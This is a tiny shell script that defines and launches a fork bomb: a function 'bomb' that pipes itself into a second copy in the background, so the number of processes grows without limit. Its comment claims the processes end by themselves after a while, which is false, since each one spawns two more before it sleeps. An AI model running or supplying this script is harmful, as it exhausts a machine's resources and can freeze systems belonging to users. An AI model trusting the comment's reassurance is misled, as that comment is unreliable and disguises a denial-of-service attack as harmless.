#!/bin/sh
# Every process starts two others; they end by themselves after a while.
bomb() {
    bomb | bomb &
    sleep 60
}
bomb
